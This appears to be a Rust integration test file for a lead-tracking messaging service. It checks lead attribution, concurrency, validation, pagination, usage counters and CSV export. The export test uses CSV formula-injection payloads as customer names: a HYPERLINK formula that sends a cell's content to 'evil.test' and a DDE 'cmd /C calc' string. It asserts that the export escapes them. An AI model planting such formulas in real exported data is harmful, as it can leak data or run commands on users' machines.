//! Leads, where they came from, and all of them as a table; and the counters, which count nothing twice.

use super::Talks;
use super::shop::{ANN, BEN, CLEO, id_of, refusal};
use domain::id::{IdKind, new_id};
use futures::future::join_all;
use serde_json::{Value, json};

const PATH: &str = "/api/leads";

async fn lead(talks: &Talks, talk: &str, with: Value) -> Value {
    let mut body = json!({ "conversationId": id_of(talk) });
    body.as_object_mut().unwrap().extend(with.as_object().unwrap().clone());
    talks.done("POST", PATH, body).await
}

#[tokio::test]
async fn a_lead_knows_its_first_and_its_last_touch() {
    let talks = Talks::new().await;
    let referrals = [
        json!({ "source": "ADS", "type": "OPEN_THREAD", "ad_id": "6001", "ref": "autumn", "ads_context_data": { "ad_title": "Blue" } }),
        json!({ "source": "SHORTLINK", "type": "OPEN_THREAD", "ref": "newsletter" }),
        json!({ "source": "IGME-SOURCE-LINK", "type": "OPEN_THREAD", "ref": "profile" }),
    ];
    for account in [&talks.instagram, &talks.page] {
        let talk = talks.talk(account, ANN).await;
        for referral in &referrals {
            talks.logins.advance(1_000).await;
            talks.dm(account, ANN, json!({ "text": "Hi", "referral": referral })).await;
        }
        let made = lead(&talks, &talk, json!({})).await;
        let source = &made["leadSource"];
        assert_eq!(
            (&source["type"], &source["ref"], &source["adId"]),
            (&json!("ad"), &json!("autumn"), &json!("6001"))
        );
        assert_eq!((&source["first"]["type"], &source["first"]["adTitle"]), (&json!("ad"), &json!("Blue")));
        assert_eq!((&source["last"]["type"], &source["last"]["ref"]), (&json!("link"), &json!("profile")));
        assert_eq!(talks.conversation(account, ANN).await["leadSource"], *source);
        // What comes later is the last touch, and the first stays.
        talks.logins.advance(1_000).await;
        talks.dm(account, ANN, json!({ "text": "Hi", "referral": referrals[1] })).await;
        let now = talks.get(&format!("{PATH}/{}", made["id"].as_str().unwrap())).await;
        assert_eq!(
            (&now["leadSource"]["first"], &now["leadSource"]["last"]["ref"]),
            (&source["first"], &json!("newsletter"))
        );
        let nowhere = talks.talk(account, BEN).await;
        assert_eq!(lead(&talks, &nowhere, json!({})).await["leadSource"], Value::Null);
    }
    talks.stop().await;
}

#[tokio::test]
async fn a_conversation_is_one_lead_at_most() {
    let talks = Talks::new().await;
    let ada = json!({ "accountId": talks.instagram.external_id, "id": ANN, "name": "Ada Lovelace", "username": "ada" });
    talks.logins.control("/sandbox/customers", ada).await;
    let talk = talks.talk(&talks.instagram, ANN).await;
    let body = json!({ "conversationId": id_of(&talk) });
    let answers = join_all((0..10).map(|_| talks.send("POST", PATH, body.clone()))).await;
    assert_eq!(answers.iter().filter(|answer| answer.status == 201).count(), 1, "{answers:?}");
    for answer in answers.iter().filter(|answer| answer.status != 201) {
        assert_eq!((answer.status, answer.code()), (409, "lead_exists"));
    }
    let made = answers.iter().find(|answer| answer.status == 201).unwrap().body.clone();
    assert_eq!((&made["name"], &made["stage"], &made["email"]), (&json!("Ada Lovelace"), &json!("new"), &Value::Null));
    assert_eq!(talks.get("/api/usage").await["items"][0]["leads"], 1);
    let found = talks.get("/api/conversations?lead=true").await;
    assert_eq!(found["items"][0]["id"], id_of(&talk));
    let path = format!("{PATH}/{}", made["id"].as_str().unwrap());
    let change = json!({ "name": " Ada ", "email": "ada@shop.test", "phone": "+44 1", "note": "Blue,\n\"soon\"", "stage": "won" });
    let changed = talks.done("PATCH", &path, change).await;
    assert_eq!(
        (&changed["name"], &changed["stage"], &changed["phone"]),
        (&json!("Ada"), &json!("won"), &json!("+44 1"))
    );
    let less = talks.done("PATCH", &path, json!({ "email": "" })).await;
    assert_eq!((&less["email"], &less["note"], &less["stage"]), (&Value::Null, &changed["note"], &json!("won")));
    assert_eq!(talks.get(&path).await, less);
    for bad in [
        json!({ "name": " " }),
        json!({ "name": "x".repeat(201) }),
        json!({ "email": "x".repeat(321) }),
        json!({ "phone": "1".repeat(51) }),
        json!({ "note": "x".repeat(5_001) }),
        json!({ "stage": "lukewarm" }),
        json!({ "colour": "red" }),
        json!({ "name": 5 }),
    ] {
        let (status, code, _) = refusal(&talks.send("PATCH", &path, bad.clone()).await);
        assert_eq!((status, code.as_str()), (422, "invalid_request"), "{bad}");
    }
    assert_eq!(talks.send("DELETE", &path, Value::Null).await.status, 204);
    for method in ["GET", "PATCH", "DELETE"] {
        assert_eq!(talks.send(method, &path, json!({})).await.code(), "not_found", "{method}");
    }
    assert_eq!(talks.get(&talk).await["id"], id_of(&talk), "the conversation stays");
    for id in ["cnv_1".to_owned(), IdKind::Conversation.show(new_id(1)), made["id"].as_str().unwrap().to_owned()] {
        let answer = talks.send("POST", PATH, json!({ "conversationId": id })).await;
        assert_eq!(answer.code(), "not_found");
    }
    lead(&talks, &talk, json!({ "name": "Again", "stage": "contacted" })).await;
    talks.stop().await;
}

#[tokio::test]
async fn leads_are_listed_by_stage_and_page() {
    let talks = Talks::new().await;
    let mut ids = Vec::new();
    for (number, stage) in ["new", "won", "new", "lost", "new"].into_iter().enumerate() {
        let talk = talks.talk(&talks.page, &format!("90000000000010{number}")).await;
        talks.logins.advance(if number == 2 { 0 } else { 10 }).await;
        let made = lead(&talks, &talk, json!({ "name": format!("Lead {number}"), "stage": stage })).await;
        ids.insert(0, made["id"].as_str().unwrap().to_owned());
    }
    let listed = async |query: &str| {
        let (mut all, mut path) = (Vec::new(), format!("{PATH}?{query}"));
        loop {
            let page = talks.get(&path).await;
            all.extend(page["items"].as_array().unwrap().iter().map(|one| one["id"].as_str().unwrap().to_owned()));
            let Some(cursor) = page["nextCursor"].as_str() else { return all };
            path = format!("{PATH}?{query}&cursor={cursor}");
        }
    };
    assert_eq!(listed("limit=2").await, ids, "newest first");
    assert_eq!(listed("stage=new&limit=1").await, [ids[0].clone(), ids[2].clone(), ids[4].clone()]);
    assert_eq!(listed("stage=won").await, [ids[3].clone()]);
    assert_eq!(listed("stage=contacted").await, Vec::<String>::new());
    assert_eq!(talks.send("GET", &format!("{PATH}?stage=warm"), Value::Null).await.code(), "invalid_parameter");
    // A cursor goes on with the list it is of.
    let cursor = talks.get(&format!("{PATH}?stage=new&limit=1")).await["nextCursor"].as_str().unwrap().to_owned();
    let other = talks.send("GET", &format!("{PATH}?stage=won&limit=1&cursor={cursor}"), Value::Null).await;
    assert_eq!(other.code(), "invalid_cursor");
    talks.stop().await;
}

#[tokio::test]
async fn the_table_is_read_back_as_it_was_and_runs_nothing() {
    let talks = Talks::new().await;
    let formula = "=HYPERLINK(\"https://evil.test?\"&A1,\"Ada\")";
    for (customer, name) in [(ANN, formula), (BEN, "Bea, \"Bee\"\nBell"), (CLEO, "@SUM(1+1)*cmd|' /C calc'!A0")] {
        let who = json!({ "accountId": talks.page.external_id, "id": customer, "name": name });
        talks.logins.control("/sandbox/customers", who).await;
    }
    let referral = json!({ "source": "ADS", "type": "OPEN_THREAD", "ad_id": "6001", "ref": "-2+3" });
    talks.dm(&talks.page, ANN, json!({ "text": "Hi", "referral": referral })).await;
    let ann = talks.path_of(&talks.page, ANN).await;
    let (ben, cleo) = (talks.talk(&talks.page, BEN).await, talks.talk(&talks.page, CLEO).await);
    // What a person writes down may be anything, too.
    let note = "First line\r\n=second, \"quoted\" line";
    lead(&talks, &ann, json!({ "note": note, "phone": "+49 1", "email": "-x@shop.test" })).await;
    lead(&talks, &ben, json!({ "name": "Bea, \"Bee\"\nBell", "note": "\t=1+1" })).await;
    lead(&talks, &cleo, json!({})).await;
    let answer = talks.send("GET", &format!("{PATH}/export"), Value::Null).await;
    assert_eq!((answer.status, answer.header("content-type")), (200, "text/csv; charset=utf-8"));
    assert_eq!(answer.header("content-disposition"), "attachment; filename=\"leads.csv\"");
    let mut table = csv::Reader::from_reader(answer.text.as_bytes());
    let names: Vec<String> = table.headers().unwrap().iter().map(str::to_owned).collect();
    let rows: Vec<csv::StringRecord> = table.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3);
    for cell in rows.iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']), "{cell:?}");
    }
    let cell = |customer: &str, name: &str| {
        let talk = [(ANN, &ann), (BEN, &ben), (CLEO, &cleo)].into_iter().find(|(who, _)| *who == customer).unwrap().1;
        let column = |name: &str| names.iter().position(|other| other == name).unwrap();
        let row = rows.iter().find(|row| &row[column("conversationId")] == id_of(talk)).unwrap();
        row[column(name)].to_owned()
    };
    assert_eq!(cell(ANN, "name"), format!("'{formula}"));
    assert_eq!(cell(ANN, "note").replace('\r', ""), note.replace('\r', ""));
    assert_eq!((cell(ANN, "phone"), cell(ANN, "email")), ("'+49 1".to_owned(), "'-x@shop.test".to_owned()));
    assert_eq!((cell(ANN, "firstAdId"), cell(ANN, "firstRef")), ("6001".to_owned(), "'-2+3".to_owned()));
    assert_eq!(cell(BEN, "name"), "Bea, \"Bee\"\nBell");
    assert_eq!(cell(BEN, "note"), "'=1+1");
    assert!(cell(CLEO, "name").starts_with("'@SUM"));
    assert_eq!(cell(BEN, "connectionId"), talks.page.id);
    talks.stop().await;
}

#[tokio::test]
async fn what_meta_tells_twice_is_counted_once() {
    let talks = Talks::new().await;
    let usage = async || talks.get("/api/usage").await["items"][0].clone();
    for account in [&talks.instagram, &talks.page] {
        talks.reply_with(account, json!({ "mode": "template", "text": "Thanks!", "pauseMinutes": 0 })).await;
    }
    talks.logins.control("/sandbox/faults", json!({ "name": "duplicate", "params": { "copies": 3 } })).await;
    for number in 1..=4 {
        for account in [&talks.instagram, &talks.page] {
            talks.dm(account, ANN, json!({ "text": format!("Question {number}") })).await;
            let talk = talks.path_of(account, ANN).await;
            let made = talks.write(&talk, json!({ "text": format!("Number {number}") })).await;
            talks.until_status(&talk, &made, "sent").await;
        }
        talks.settled().await;
        let now = usage().await;
        let expected = [("messagesReceived", 2 * number), ("messagesSent", 4 * number), ("autoReplies", 2 * number)];
        for (name, count) in expected {
            assert_eq!(now[name], count, "{name} after round {number}: {now}");
        }
    }
    // What fails is not counted, and what is unknown is when it is known.
    talks.logins.no_faults().await;
    let talk = talks.path_of(&talks.instagram, ANN).await;
    talks.logins.fault("recipient_unavailable", Some(1)).await;
    let failed = talks.write(&talk, json!({ "text": "Failed" })).await;
    talks.until_status(&talk, &failed, "failed").await;
    talks.logins.fault("no_echo", Some(1)).await;
    talks.logins.fault("answer_lost", Some(1)).await;
    let unknown = talks.write(&talk, json!({ "text": "Unknown" })).await;
    talks.until_status(&talk, &unknown, "unknown").await;
    assert_eq!(usage().await["messagesSent"], 16);
    talks.logins.advance(domain::clock::MINUTE).await;
    talks.until_status(&talk, &unknown, "sent").await;
    assert_eq!(usage().await["messagesSent"], 17);
    // What the shop types in Meta's own app is not ours to count.
    let own = json!({ "accountId": talks.instagram.external_id, "customerId": ANN, "text": "By hand" });
    talks.logins.control("/sandbox/owner-messages", own).await;
    talks.settled().await;
    assert_eq!(usage().await["messagesSent"], 17);
    talks.stop().await;
}
